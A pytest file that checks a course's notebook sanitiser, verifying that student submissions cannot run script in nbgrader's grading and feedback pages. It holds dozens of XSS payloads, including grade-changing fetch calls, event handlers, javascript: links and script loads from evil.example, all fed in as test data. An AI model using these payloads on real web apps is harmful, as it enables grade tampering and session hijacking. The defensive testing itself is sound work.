"""What a submission shows in a browser does nothing: formgrader, feedback and nbconvert's own pages."""

import base64
import copy
import functools
import re
from collections import Counter
from pathlib import Path

import nbformat
import nbgrader
import pytest
from bleach._vendor import html5lib  # reads HTML as browsers do
from nbconvert import HTMLExporter
from nbformat.v4 import new_markdown_cell, new_raw_cell

from moe_course.grading.exercises.locate import notebooks_dir
from moe_course.grading.plugins import Inert
from moe_course.grading.submission.repair import repair
from moe_course.grading.submission.sanitising import is_harmless

NAME = "01_dense_ffn"
RELEASED = nbformat.read(notebooks_dir() / NAME / f"{NAME}.ipynb", as_version=4)
TEMPLATES = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
BOOTSTRAP = TEMPLATES.parent / "static" / "node_modules" / "bootstrap" / "dist" / "css"
RESOURCES = {
    "nbgrader": {"notebook": NAME, "score": 1, "max_score": 2, "late_penalty": 0},
    **dict.fromkeys(("notebook_id", "assignment_id", "submission_id", "base_url", "notebook_path"), "x"),
    **dict.fromkeys(("index", "total"), 1),
    **dict.fromkeys(("student", "last_name", "first_name"), "Ada"),
}
ATTACK = "fetch('/formgrader/api/grade/1',{method:'PUT'})"
SVG = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{ATTACK}\"/>".encode()).decode()

PAYLOADS = {
    "script": f"<script>{ATTACK}</script>",
    "script in a paragraph": f"Some words <script>{ATTACK}</script> and more.",
    "unclosed script": f"<script src=//evil.example/a.js>\n\n{ATTACK}",
    "handler": f'<img src=x onerror="{ATTACK}">',
    "handler inline": f'words <b onmouseover="{ATTACK}">bold</b>',
    "handler of an allowed tag": f'<details open ontoggle="{ATTACK}"><summary>x</summary></details>',
    "body": f'<body onload="{ATTACK}">',
    "link": f"[click](javascript:{ATTACK})",
    "link in capitals": "[click](JaVaScRiPt:alert(1))",
    "link with entities": "[click](&#106;avascript&colon;alert(1))",
    "link with a tab": "[click](java\tscript:alert(1))",
    "link in angle brackets": "[click](<javascript:alert(1)>)",
    "link by reference": "[click][1]\n\n[1]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[click](vbscript:msgbox)",
    "html link": '<a href="javascript:alert(1)">x</a>',
    "file beside the notebook": "[my results](evil.html)",
    "files prefix": "[my results](files/javascript:alert(1))",
    "link without a scheme": "[x](//evil.example)",
    "tracking image": "![](https://evil.example/pixel.png)",
    "logout": "![](/logout)",
    "svg image": f"![](data:image/svg+xml;base64,{SVG})",
    "inline svg": f'<svg onload="{ATTACK}"><animate onbegin="{ATTACK}"/></svg>',
    "math": f"<math><mtext></mtext><mglyph><style><img src=x onerror={ATTACK}></style></mglyph></math>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={ATTACK}>">',
    "style": "<style>.score { display: none }</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "form": '<form action="/formgrader/api"><button>Show solution</button></form>',
    "input": '<input class="score" id="check_ffn_params" value="100">',
    "button class": '<span class="btn full-credit mark-graded">x</span>',
    "iframe": f"<iframe srcdoc=\"<script>{ATTACK}</script>\"></iframe>",
    "object": '<object data="evil.html"></object><embed src="evil.html">',
    "link element": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "template": f"<template><script>{ATTACK}</script></template>",
    "textarea": f"<textarea><img src=x onerror={ATTACK}>",
    "comment": f"<!--><script>{ATTACK}</script>-->",
    "open comment": "<!-- swallows the rest of the page",
    "open quote": '<div title="',
    "open tag": "<div x=1 ",
    "open details": "<details><summary>the rest is hidden</summary>",
    "closing tags": "</div></div></div></div>",
    "link around the rest": '<a href="https://evil.example/login">',
    "in a table": f'| a |\n|---|\n| <img src=x onerror="{ATTACK}"> |',
    "in a heading": f'# x <img src=x onerror="{ATTACK}">',
    "in a quote": f"> <script>{ATTACK}</script>",
    "in a list": f"- <script>{ATTACK}</script>",
    "in math": f'$$ a $$ <img src=x onerror="{ATTACK}"> $$ b $$',
    "tex link": r"$\href{javascript:alert(1)}{x}$",
    "tex class": r"$$\class{full-credit}{x} \style{position:fixed}{y} \cssId{z}{z}$$",
    "tex by name": r"$\csname href\endcsname{javascript:alert(1)}{x}$",
    "mermaid": '```mermaid\ngraph TD\nclick A "javascript:alert(1)"\n```',
    "fence that is none": f"```text\nx\n```\n<script>{ATTACK}</script>\n```",
    "fence with a false end": f"```text\n````\n<script>{ATTACK}</script>\n```",
    "fence and math": f"$$\n```text\n$$\n<script>{ATTACK}</script>\n```",
    "backticks": f"`` ` <script>{ATTACK}</script> ` ",
    "code in a tag": f"<a `href=javascript:alert(1)`><img src=`x`onerror={ATTACK}>",
    "null": f"<scr\x00ipt>{ATTACK}</scr\x00ipt>",
    "attachment that is missing": "![x](attachment:none.png)",
    "deep": ">" * 5_000 + f"<script>{ATTACK}</script>",
    "many tags": "<b>" * 10_000 + f"<script>{ATTACK}</script>",
    "long": "words " * 10_000 + f"<script>{ATTACK}</script>",
}  # fmt: skip

# Markdown itself makes text of these, or the cell's own frame ends what they open.
INERT_BY_NATURE = ("link with a tab", "open details", "backticks", "code in a tag", "null")

HARMLESS = {
    "words": "Some *words* with **weight**, `a < b` and ~~errors~~.",
    "comparison": "x < y and y > z & so on; I <3 MoE",
    "math": "$a < b$ and $$\n\\begin{aligned} p_{TE} &< \\frac{1}{E} \\\\ q &> 0 \\end{aligned}\n$$",
    "code": "```python\ndef f(x):\n    return '<script>'  # text\n```",
    "code inline": "`<script>alert(1)</script>` is text",
    "table": "| a | b |\n|--:|:-:|\n| 1 | `x` |",
    "list": "1. one\n2. two\n   - [ ] open\n   - [x] done",
    "quote": "> wise words",
    "link": "[paper](https://arxiv.org/abs/2101.03961?a=b&c=d#s) and <https://pytorch.org> and [up](#top)",
    "image": "![plot](data:image/png;base64,iVBORw0KGgo=)",
    "html": "<details><summary>more</summary>\n\nH<sub>2</sub>O <br> <b>x</b> <kbd>Ctrl</kbd>\n\n</details>",
    "heading": "# My notes on `top_k`\n\nx\n---",
    "comment": "<!-- to do --> words",
    "tex": r"$\mathrm{softmax}(x)_i = \frac{e^{x_i}}{\sum_j e^{x_j}}$ and \$5",
}


def submission(*cells):
    notebook = copy.deepcopy(RELEASED)
    notebook.cells[3:3] = cells
    return notebook


def pages(notebook):
    """What the three HTML pages show of a notebook."""
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(score=1, points=cell.metadata.nbgrader.get("points", 0))
    own = {"extra_template_basedirs": [str(TEMPLATES)], "extra_template_paths": [str(BOOTSTRAP)]}
    for options in ({}, {"template_name": "feedback", **own}, {"template_name": "formgrade", **own}):
        yield HTMLExporter(**options).from_notebook_node(notebook, resources=copy.deepcopy(RESOURCES))[0]


ACTIVE = re.compile(r"on\w+|style|class|id|name|srcdoc|action|formaction|http-equiv|data-link")
PASSIVE = {
    *(
        "a",
        "b",
        "blockquote",
        "br",
        "code",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "h1",
        "h2",
        "h3",
        "hr",
    ),
    *("i", "img", "input", "kbd", "li", "ol", "p", "pre", "span", "strong", "sub", "summary", "sup", "table"),
    *("tbody", "td", "th", "thead", "tr", "ul"),
}
MARKDOWNS_OWN = {  # what nbconvert itself writes for headings, code, task lists and tables
    "class": re.compile(
        r"(highlight|language-text|[a-z]\w?|task-list-item(-checkbox)?)?|jp-.*"
        r"|cell border-box-sizing text_cell rendered|prompt input_prompt|inner_cell|text_cell_render .*"
    ),
    "style": re.compile(r"text-align:.*"),
    "id": re.compile(r"cell-id=[\w-]+|(?!check_).*-.*|.*%3C.*"),
}


def acting(page):
    """Everything in a page that acts or points somewhere, counted, as (element, attribute, value)."""
    found = []
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag not in PASSIVE:
            is_code = element.tag in ("script", "style")
            found.append((element.tag, "".join(element.itertext()) if is_code else ""))
        for name, value in element.attrib.items():
            harmless_link = name == "href" and re.match(r"https?://(?!evil)|#|mailto:", value)
            harmless_image = name == "src" and value.startswith("data:image/png")
            if ACTIVE.fullmatch(str(name)) or (
                name in ("href", "src", "xlink:href") and not (harmless_link or harmless_image)
            ):
                found.append((element.tag, name, value))
    return Counter(found)


@functools.cache
def released_pages():
    return [acting(page) for page in pages(copy.deepcopy(RELEASED))]


def added(notebook):
    """What the pages of a notebook have that those of the release lack, apart from the classes of markdown itself."""
    for page, plain in zip(pages(notebook), released_pages(), strict=True):
        yield [what for what in acting(page) - plain if not _is_markdowns_own(*what)]


def _is_markdowns_own(element, attribute, value=""):
    form = MARKDOWNS_OWN.get(attribute)
    return form is not None and form.fullmatch(value) is not None


def seen(page):
    return re.sub(r"\s+", "", "".join(html5lib.parse(page, namespaceHTMLElements=False).itertext()))


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_sanitiser_tells_what_acts(name):
    assert is_harmless(PAYLOADS[name]) == (name in INERT_BY_NATURE)


@pytest.mark.parametrize("kind", ["markdown", "raw"])
def test_no_payload_acts_and_all_can_be_read(kind):
    """All in one notebook, so that one cell may open what another one closes."""
    make = {"markdown": new_markdown_cell, "raw": new_raw_cell}[kind]
    hidden = {"raw_mimetype": "text/html", "format": "text/html"}
    cells = [make(payload, metadata=hidden if kind == "raw" else {}) for payload in PAYLOADS.values()]
    short = [cell for cell in cells if len(cell.source) < 1000]
    repaired = repair(nbformat.writes(submission(*short)), RELEASED)
    assert any("shown as plain text" in note for note in repaired.notes)
    assert repair(nbformat.writes(repaired.notebook), RELEASED).notebook == repaired.notebook
    assert list(added(copy.deepcopy(repaired.notebook))) == [[], [], []]
    *_, feedback, _ = map(seen, pages(copy.deepcopy(repaired.notebook)))
    became_text = {payload for name, payload in PAYLOADS.items() if name not in INERT_BY_NATURE}
    for cell in short if kind == "markdown" else ():
        shown = re.sub(r"\s+", "", cell.source).replace(
            "(files/", "("
        )  # nbconvert drops this old prefix everywhere
        assert shown in feedback or cell.source not in became_text


@pytest.mark.parametrize("name", ["deep", "many tags", "long"])
def test_what_takes_long_to_render_is_text(name):
    repaired = repair(nbformat.writes(submission(new_markdown_cell(PAYLOADS[name]))), RELEASED)
    (cell,) = (cell for cell in repaired.notebook.cells if ATTACK in cell.source)
    assert cell.source.startswith("```text\n")


def test_one_cell_cannot_open_what_another_one_closes():
    cells = [
        '<div title="',
        '" onmouseover="alert(1)" x="',
        "<!--",
        "--><b>x</b>",
        "<a href=https://evil.example>",
        "x",
    ]
    repaired = repair(nbformat.writes(submission(*map(new_markdown_cell, cells))), RELEASED)
    assert list(added(repaired.notebook)) == [[], [], []]


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_ordinary_markdown_stays(text):
    notebook = submission(new_markdown_cell(text, id="mine"))
    repaired = repair(nbformat.writes(notebook), RELEASED)
    assert repaired.notes == ()
    assert repaired.notebook.cells == notebook.cells


def test_all_of_the_course_s_text_is_harmless():
    texts = [nbformat.read(path, as_version=4) for path in notebooks_dir().glob("*/*.ipynb")]
    cells = [cell for notebook in texts for cell in notebook.cells if cell.cell_type == "markdown"]
    assert [cell.id for cell in cells if not is_harmless(cell.source)] == []


def test_an_edited_course_cell_is_the_learner_s():
    notebook = copy.deepcopy(RELEASED)
    cell = next(cell for cell in notebook.cells if cell.cell_type == "markdown")
    cell.source += PAYLOADS["script"]
    assert list(added(repair(nbformat.writes(notebook), RELEASED).notebook)) == [[], [], []]


@pytest.mark.parametrize("mime", ["image/svg+xml", "text/html", 'image/png"onerror="x'])
def test_attachments_are_pictures_of_dots(mime):
    cell = new_markdown_cell("![x](attachment:x.png)", id="mine")
    cell["attachments"] = {"x.png": {mime: SVG}}
    repaired = repair(nbformat.writes(submission(cell)), RELEASED)
    assert SVG not in nbformat.writes(repaired.notebook)
    assert list(added(repaired.notebook)) == [[], [], []]
    cell["attachments"] = {"x.png": {"image/png": "iVBORw0KGgo="}}
    kept = repair(nbformat.writes(submission(cell)), RELEASED)
    assert kept.notebook.cells[3] == cell
    assert kept.notes == ()


def test_metadata_outputs_tags_and_ids_say_nothing():
    notebook = submission(
        new_markdown_cell("x", id="mine", metadata={"tags": ['a" onclick="x', "full-credit btn"]})
    )
    for cell in notebook.cells:
        cell.metadata["name"] = cell.metadata["trusted"] = "<script>"
        cell["rendered"] = "<script>"
        if cell.cell_type == "code":
            html = {"text/html": f"<script>{ATTACK}</script>", "application/javascript": ATTACK}
            cell.outputs = [nbformat.v4.new_output("display_data", html)]
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": "</script>"}}
    notebook.metadata["title"] = notebook.metadata["authors"] = "<script>"
    repaired = repair(nbformat.writes(notebook), RELEASED).notebook
    assert list(added(copy.deepcopy(repaired))) == [[], [], []]
    assert "script" not in nbformat.writes(repaired).replace("manuscript", "")
    assert "full-credit" not in nbformat.writes(repaired)


def test_feedback_of_a_notebook_that_nothing_repaired():
    notebook = submission(*map(new_markdown_cell, list(PAYLOADS.values())[:40]))
    cleaned, _ = Inert().preprocess(notebook, {"nbgrader": {"notebook": NAME}})
    assert list(added(cleaned)) == [[], [], []]
